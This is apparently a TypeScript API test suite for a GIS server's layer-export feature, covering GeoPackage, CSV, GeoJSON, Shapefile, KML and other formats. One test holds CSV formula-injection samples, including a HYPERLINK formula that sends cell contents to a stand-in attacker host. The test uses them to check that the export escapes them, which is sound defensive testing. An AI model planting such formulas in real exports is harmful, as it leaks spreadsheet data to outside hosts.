/**
 * Export (spec §4.8, reference §8): every file is read back with GDAL and compared feature by
 * feature, GeoPackages are checked with GDAL's validate_gpkg.py, ZIPs are opened.
 */
import type { Api, ApiCase, Expect } from '../harness.ts'
import { expectError, uniq } from '../harness.ts'
import { bytesOf } from '../mvt-decode.ts'
import { readWithGdal, unzip, validateGpkg, zipUtf8Flags } from '../export-read.ts'

const VALIDATION = 'nextgisweb.core.exception.ValidationError'
const RES_NOT_FOUND = 'nextgisweb.resource.exception.ResourceNotFound'

const FIELDS = [
  { keyname: 'name', datatype: 'STRING', display_name: 'Название' }, { keyname: 'count', datatype: 'INTEGER' },
  { keyname: 'big', datatype: 'BIGINT' }, { keyname: 'depth', datatype: 'REAL' }, { keyname: 'day', datatype: 'DATE' },
  { keyname: 'at', datatype: 'TIME' }, { keyname: 'stamp', datatype: 'DATETIME' }, { keyname: 'ok', datatype: 'BOOLEAN' },
]
const ROWS = [
  { geom: 'POINT(1000 2000)', fields: { name: 'Скважина, "1"', count: 7, big: '9007199254740993', depth: 12.5, day: '2019-06-01',
    at: '16:20:00', stamp: '2019-06-01T16:20:05', ok: true } },
  { geom: 'POINT(-5000.25 7000.5)', fields: { name: '42', count: -3, big: null, depth: null, day: null, at: null, stamp: null, ok: false } },
  { geom: 'POINT(3000000 3000000)', fields: { name: null, count: null, big: 5, depth: 0.001, day: '2024-02-29', at: '00:00:01',
    stamp: '2024-02-29T23:59:59', ok: null } },
]

async function seed(api: Api, expect: Expect, name = uniq('Экспорт')) {
  const res = await api.request('POST', '/api/resource/', { body: {
    resource: { cls: 'vector_layer', parent: { id: 0 }, display_name: name },
    vector_layer: { srs: { id: 3857 }, geometry_type: 'POINT', fields: FIELDS } } })
  expect(res.status).toBe(201)
  const id = res.body.id as number
  const created = await api.request('PATCH', `/api/resource/${id}/feature/?dt_format=iso`, { body: ROWS })
  expect(created.status).toBe(200)
  return { id, name, fids: (created.body as { id: number }[]).map((f) => f.id) }
}

async function download(api: Api, expect: Expect, path: string, type: string, filename: string) {
  const res = await api.request('GET', path)
  expect(res.status, res.text.slice(0, 300)).toBe(200)
  expect(res.headers['content-type']).toBe(type)
  expect(res.headers['content-disposition']).toBe(`attachment; filename=${filename}`)
  const bytes = bytesOf(res.bodyBase64)
  if (res.headers['content-length'] !== undefined) expect(Number(res.headers['content-length'])).toBe(bytes.length)
  return bytes
}

/** GDAL's reading of the seeded values (GDAL writes dates with slashes). */
function expectRows(expect: Expect, features: { id?: number; properties: Record<string, unknown>; geometry: unknown }[],
  fids: number[], key: (k: string) => string = (k) => k) {
  expect(features).toHaveLength(ROWS.length)
  features.forEach((f, i) => {
    const src = ROWS[i]!.fields
    // A null value is a property left out (GeoJSON, as GDAL writes it) or a null.
    const val = (k: string) => f.properties[key(k)] ?? null
    expect(val('name')).toBe(src.name)
    expect(val('count')).toBe(src.count)
    // Compared as doubles here (JSON.parse rounds past 2^53); the exact digits are checked on the raw text.
    expect(val('big') === null ? null : Number(val('big'))).toBe(src.big === null ? null : Number(src.big))
    expect(val('depth')).toBe(src.depth)
    expect(val('day') === null ? null : String(val('day')).replace(/\//g, '-')).toBe(src.day)
    expect(val('at')).toBe(src.at)
    expect(val('stamp') === null ? null : String(val('stamp')).replace(/\//g, '-').replace(' ', 'T').replace(/(\.000)?(Z|\+00)?$/, ''))
      .toBe(src.stamp)
    expect(val('ok') === null ? null : Boolean(val('ok'))).toBe(src.ok)
    const [x, y] = ROWS[i]!.geom.slice(6, -1).split(' ').map(Number)
    expect(f.geometry).toEqual({ type: 'Point', coordinates: [x, y] })
  })
  if (fids.length) expect(features.map((f) => f.id)).toEqual(fids)
}

export const exportCases: ApiCase[] = [
  {
    name: 'GeoPackage as QGIS asks for it (fid=ngw_id, zipped=false): valid, every feature and attribute as stored',
    async run(api, expect) {
      const { id, name, fids } = await seed(api, expect)
      const bytes = await download(api, expect, `/api/resource/${id}/export?format=GPKG&srs=3857&fid=ngw_id&zipped=false`,
        'application/geopackage+vnd.sqlite3', `${id}.gpkg`)
      expect(new TextDecoder().decode(bytes.subarray(0, 15))).toBe('SQLite format 3')
      expect(await validateGpkg(bytes)).toEqual({ status: 0, output: '' })
      const [layer, ...more] = await readWithGdal(bytes, 'export.gpkg')
      expect(more).toHaveLength(0)
      expect(layer!.name).toBe(name)
      expect(layer!.srs).toBe('EPSG:3857')
      expect(layer!.fields.map((f) => f.name)).toEqual([...FIELDS.map((f) => f.keyname), 'ngw_id'])
      expectRows(expect, layer!.features, [])
      expect(layer!.raw).toContain('"big": 9007199254740993,')
      expect(layer!.features.map((f) => f.properties.ngw_id)).toEqual(fids)
      // Without `fid` the features keep their ids.
      const plain = await download(api, expect, `/api/resource/${id}/export?format=GPKG&zipped=False`, 'application/geopackage+vnd.sqlite3', `${id}.gpkg`)
      expect(await validateGpkg(plain)).toEqual({ status: 0, output: '' })
      expectRows(expect, (await readWithGdal(plain, 'plain.gpkg'))[0]!.features, fids)
    },
  },
  {
    name: 'GeoPackage of a selection: srs, intersects in its own srs, ilike, fld_*, fields order and display names',
    async run(api, expect) {
      const { id, fids } = await seed(api, expect)
      const q = 'format=GPKG&zipped=false&srs=4326&fields=depth,name&display_name=true'
      const filtered = await download(api, expect, `/api/resource/${id}/export?${q}&intersects=POLYGON((-1 -1,1 -1,1 1,-1 1,-1 -1))&intersects_srs=4326`,
        'application/geopackage+vnd.sqlite3', `${id}.gpkg`)
      expect(await validateGpkg(filtered)).toEqual({ status: 0, output: '' })
      const [layer] = await readWithGdal(filtered, 'f.gpkg')
      expect(layer!.srs).toBe('EPSG:4326')
      expect(layer!.fields.map((f) => f.name)).toEqual(['depth', 'Название'])
      expect(layer!.features.map((f) => f.id)).toEqual(fids.slice(0, 2))
      const [lon, lat] = (layer!.features[0]!.geometry as { coordinates: number[] }).coordinates
      expect(lon).toBeCloseTo(0.0089831528, 9)
      expect(lat).toBeCloseTo(0.0179663056, 9)
      const byText = await download(api, expect, `/api/resource/${id}/export?format=GPKG&zipped=false&ilike=${encodeURIComponent('скваж')}`,
        'application/geopackage+vnd.sqlite3', `${id}.gpkg`)
      expect((await readWithGdal(byText, 't.gpkg'))[0]!.features.map((f) => f.id)).toEqual([fids[0]])
      const byField = await download(api, expect, `/api/resource/${id}/export?format=GPKG&zipped=false&fld_count__lt=0`,
        'application/geopackage+vnd.sqlite3', `${id}.gpkg`)
      expect((await readWithGdal(byField, 'c.gpkg'))[0]!.features.map((f) => f.id)).toEqual([fids[1]])
    },
  },
  {
    name: 'zipped by default: <id>.gpkg.zip holding <id>.gpkg; CSV zips its .csvt beside it',
    async run(api, expect) {
      const { id, fids } = await seed(api, expect)
      const zip = unzip(await download(api, expect, `/api/resource/${id}/export?format=GPKG`, 'application/zip', `${id}.gpkg.zip`))
      expect(Object.keys(zip)).toEqual([`${id}.gpkg`])
      expect(await validateGpkg(zip[`${id}.gpkg`]!)).toEqual({ status: 0, output: '' })
      expectRows(expect, (await readWithGdal(zip[`${id}.gpkg`]!, 'z.gpkg'))[0]!.features, fids)
      const csv = unzip(await download(api, expect, `/api/resource/${id}/export?format=CSV&srs=3857`, 'application/zip', `${id}.csv.zip`))
      expect(Object.keys(csv).sort()).toEqual([`${id}.csv`, `${id}.csvt`])
      expect(new TextDecoder().decode(csv[`${id}.csvt`])).toBe('WKT,String,Integer,Integer64,Real,Date,Time,DateTime,Integer(Boolean)\n')
    },
  },
  {
    name: 'GeoJSON export: 4326 by default (crs CRS84, as the original), id = fid; /geojson keeps the layer srs with a crs member',
    async run(api, expect) {
      const { id, name, fids } = await seed(api, expect)
      const text = new TextDecoder().decode(await download(api, expect, `/api/resource/${id}/export?format=GeoJSON&zipped=false`,
        'application/json', `${id}.geojson`))
      const doc = JSON.parse(text)
      expect(doc.name).toBe(name)
      expect(doc.crs).toEqual({ type: 'name', properties: { name: 'urn:ogc:def:crs:OGC:1.3:CRS84' } })
      expect(doc.features.map((f: { id: number }) => f.id)).toEqual(fids)
      expect(doc.features[0].properties).toEqual({ ...ROWS[0]!.fields, big: 9007199254740993 })
      expect(text).toContain('"big":9007199254740993,') // exact digits, not a rounded double
      expect(doc.features[0].geometry.coordinates[0]).toBeCloseTo(0.0089831528, 9)
      const own = JSON.parse(new TextDecoder().decode(await download(api, expect, `/api/resource/${id}/geojson`, 'application/json', `${id}.geojson`)))
      expect(own.crs).toEqual({ type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::3857' } })
      expect(own.features[1].geometry).toEqual({ type: 'Point', coordinates: [-5000.25, 7000.5] })
      // GDAL reads it back as the same features.
      expectRows(expect, (await readWithGdal(new TextEncoder().encode(JSON.stringify(own)), 'own.geojson'))[0]!.features, fids)
    },
  },
  {
    name: 'CSV: byte-order mark, WKT column GEOM first, quoting; CSV_MSEXCEL with semicolons; /csv',
    async run(api, expect) {
      const { id, fids } = await seed(api, expect)
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await download(api, expect, `/api/resource/${id}/export?format=CSV&zipped=false&srs=3857&fid=ngw_id`,
        'text/csv', `${id}.csv`))
      expect(text.charCodeAt(0)).toBe(0xfeff)
      const lines = text.slice(1).trimEnd().split('\n')
      expect(lines[0]).toBe('GEOM,name,count,big,depth,day,at,stamp,ok,ngw_id')
      expect(lines[1]).toBe(`"POINT(1000 2000)","Скважина, ""1""",7,9007199254740993,12.5,2019-06-01,16:20:00,2019-06-01T16:20:05,1,${fids[0]}`)
      expect(lines[2]).toBe(`"POINT(-5000.25 7000.5)","42",-3,,,,,,0,${fids[1]}`)
      const excel = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await download(api, expect, `/api/resource/${id}/export?format=CSV_MSEXCEL&zipped=false&fields=name,count`,
        'text/csv', `${id}.csv`))
      expect(excel.slice(1).split('\n')[0]).toBe('GEOM;name;count')
      expect(excel.slice(1).split('\n')[1]).toMatch(/^"POINT\(0\.00898\d+ 0\.0179\d+\)";"Скважина, ""1""";7$/)
      const plain = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await download(api, expect, `/api/resource/${id}/csv`, 'text/csv', `${id}.csv`))
      expect(plain.slice(1).split('\n')).toHaveLength(ROWS.length + 2)
    },
  },
  {
    name: 'CSV and CSV_MSEXCEL escape text that a spreadsheet would run as a formula (OWASP); numbers stay numbers',
    async run(api, expect) {
      const res = await api.request('POST', '/api/resource/', { body: {
        resource: { cls: 'vector_layer', parent: { id: 0 }, display_name: uniq('CSV injection') },
        vector_layer: { srs: { id: 3857 }, geometry_type: 'POINT',
          fields: [{ keyname: 'text', datatype: 'STRING' }, { keyname: 'n', datatype: 'INTEGER' }, { keyname: 'x', datatype: 'REAL' }] } } })
      expect(res.status).toBe(201)
      const id = res.body.id as number
      const texts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\tTab', '\rCR', 'plain', 'a=b', '-']
      const rows = texts.map((text, i) => ({ geom: `POINT(${i} 0)`, fields: { text, n: -i - 1, x: -0.5 - i } }))
      expect((await api.request('PATCH', `/api/resource/${id}/feature/`, { body: rows })).status).toBe(200)
      for (const [format, sep] of [['CSV', ','], ['CSV_MSEXCEL', ';']] as const) {
        const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await download(api, expect,
          `/api/resource/${id}/export?format=${format}&zipped=false&srs=3857`, 'text/csv', `${id}.csv`))
        // Rows are split on the newline that ends each (the escaped CR sits inside quotes).
        const lines = text.slice(1).split(/(?<=\d)\n/)
        expect(lines[0]).toBe(`GEOM${sep}text${sep}n${sep}x\n"POINT(0 0)"${sep}"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"${sep}-1${sep}-0.5`)
        const cells = lines.slice(1, texts.length).map((l) => l.split(sep).slice(1).join(sep))
        expect(cells).toEqual([`"'+1+2"${sep}-2${sep}-1.5`, `"'-2+3"${sep}-3${sep}-2.5`, `"'@SUM(A1:A2)"${sep}-4${sep}-3.5`,
          `"'\tTab"${sep}-5${sep}-4.5`, `"'\rCR"${sep}-6${sep}-5.5`, `plain${sep}-7${sep}-6.5`, `a=b${sep}-8${sep}-7.5`, `"'-"${sep}-9${sep}-8.5`])
      }
    },
  },
  {
    name: 'formats GDAL writes: zipped Shapefile with its encoding, KML, GPX, DXF, GML, MapInfo; GPX refuses polygons',
    async run(api, expect) {
      const { id, fids } = await seed(api, expect)
      const shp = await download(api, expect, `/api/resource/${id}/export?format=ESRI%20Shapefile&zipped=false&encoding=CP1251`,
        'application/zip', `${id}.shp.zip`)
      const files = unzip(shp)
      expect(Object.keys(files).sort()).toEqual(['cpg', 'dbf', 'prj', 'shp', 'shx'].map((e) => `${id}.${e}`))
      expect(new TextDecoder().decode(files[`${id}.cpg`])).toBe('CP1251')
      const [layer] = await readWithGdal(shp, 'shp.zip')
      expect(layer!.srs).toBe('EPSG:3857')
      expect(layer!.features.map((f) => f.properties.name)).toEqual(ROWS.map((r) => r.fields.name))
      for (const [format, ext, type] of [['KML', 'kml', 'application/vnd.google-earth.kml+xml'], ['GPX', 'gpx', 'application/gpx+xml'],
        ['DXF', 'dxf', 'application/dxf']]) {
        const bytes = await download(api, expect, `/api/resource/${id}/export?format=${format}&zipped=false`, type!, `${id}.${ext}`)
        const layers = await readWithGdal(bytes, `x.${ext}`)
        const points = layers.flatMap((l) => l.features).filter((f) => f.geometry?.type === 'Point')
        expect(points.length, format).toBe(ROWS.length)
      }
      const kmz = unzip(await download(api, expect, `/api/resource/${id}/export?format=KMZ&zipped=false`, 'application/vnd.google-earth.kmz', `${id}.kmz`))
      expect(Object.keys(kmz)).toEqual(['doc.kml'])
      const gml = unzip(await download(api, expect, `/api/resource/${id}/export?format=GML`, 'application/zip', `${id}.gml.zip`))
      expect(Object.keys(gml).sort()).toEqual([`${id}.gml`, `${id}.xsd`])
      const tab = await download(api, expect, `/api/resource/${id}/export?format=MapInfo%20File%20(TAB)`, 'application/zip', `${id}.tab.zip`)
      expect((await readWithGdal(tab, 'tab.zip'))[0]!.features).toHaveLength(fids.length)
      const mif = unzip(await download(api, expect, `/api/resource/${id}/export?format=MapInfo%20File%20(MIF/MID)`, 'application/zip', `${id}.mif.zip`))
      expect(Object.keys(mif).sort()).toEqual([`${id}.mid`, `${id}.mif`])
      const poly = await api.request('POST', '/api/resource/', { body: { resource: { cls: 'vector_layer', parent: { id: 0 }, display_name: uniq('P') },
        vector_layer: { srs: { id: 3857 }, geometry_type: 'POLYGON', fields: [] } } })
      const refused = await api.request('GET', `/api/resource/${poly.body.id}/export?format=GPX`)
      expectError(expect, refused, 422, VALIDATION)
      expect(refused.body.message).toBe('The selected format does not support POLYGON geometry type.')
    },
  },
  {
    name: 'several layers in one layers.zip (GET and POST), named by name[id] in UTF-8 or by id',
    async run(api, expect) {
      const a = await seed(api, expect)
      const b = await seed(api, expect)
      const get = await download(api, expect, `/api/component/feature_layer/export?resources=${a.id},${b.id}&format=GPKG&name[${a.id}]=${encodeURIComponent('Дороги')}`,
        'application/zip', 'layers.zip')
      const files = unzip(get)
      expect(Object.keys(files)).toEqual(['Дороги.gpkg', `${b.id}.gpkg`])
      expect(zipUtf8Flags(get)).toEqual([true, false])
      for (const f of Object.values(files)) expect(await validateGpkg(f)).toEqual({ status: 0, output: '' })
      const res = await api.request('POST', '/api/component/feature_layer/export', {
        body: { format: 'ESRI Shapefile', resources: [{ id: a.id, name: 'roads' }, { id: b.id }] } })
      expect(res.status).toBe(200)
      expect(res.headers['content-disposition']).toBe('attachment; filename=layers.zip')
      expect(Object.keys(unzip(bytesOf(res.bodyBase64))).filter((n) => n.endsWith('.shp')).sort()).toEqual(['roads/roads.shp', `${b.id}/${b.id}.shp`].sort())
      expectError(expect, await api.request('GET', `/api/component/feature_layer/export?resources=${a.id}&format=GPKG&name[${a.id}]=a/b`), 422, VALIDATION)
      expectError(expect, await api.request('GET', `/api/component/feature_layer/export?resources=${a.id},999999&format=GPKG`), 404, RES_NOT_FOUND)
      expectError(expect, await api.request('POST', '/api/component/feature_layer/export', { body: { format: 'GPKG', resources: [] } }), 422, VALIDATION)
    },
  },
  {
    name: 'bad export requests: format missing or misspelt, fid clash, unknown srs, zipped; a group or a missing resource is 404',
    async run(api, expect) {
      const { id } = await seed(api, expect)
      const group = await api.request('POST', '/api/resource/', { body: { resource: { cls: 'resource_group', parent: { id: 0 }, display_name: uniq('G') } } })
      for (const q of ['', 'format=gpkg', 'format=GPKG&fid=name', 'format=GPKG&srs=999999', 'format=GPKG&zipped=maybe',
        'format=GPKG&filter=x', 'format=GPKG&intersects=POLYGON((0 0,1 1', 'format=GPKG&fld_nosuch=1']) {
        expectError(expect, await api.request('GET', `/api/resource/${id}/export?${q}`), 422, VALIDATION)
      }
      const clash = await api.request('GET', `/api/resource/${id}/export?format=GPKG&fid=name`)
      expect(clash.body.message).toBe("Couldn't add FID field 'name'. Such field already exists.")
      // resource.export is overloaded per class (reference §8): a group has none of its exports.
      expectError(expect, await api.request('GET', `/api/resource/${group.body.id}/export?format=GPKG`), 404, RES_NOT_FOUND)
      expectError(expect, await api.request('GET', '/api/resource/999999/export?format=GPKG'), 404, RES_NOT_FOUND)
      const settings = await api.request('GET', '/api/component/pyramid/settings?component=feature_layer')
      expect(settings.body.exportFormats.map((f: { name: string }) => f.name)).toEqual(expect.arrayContaining(['GPKG', 'GeoJSON', 'CSV', 'ESRI Shapefile', 'KML']))
    },
  },
]
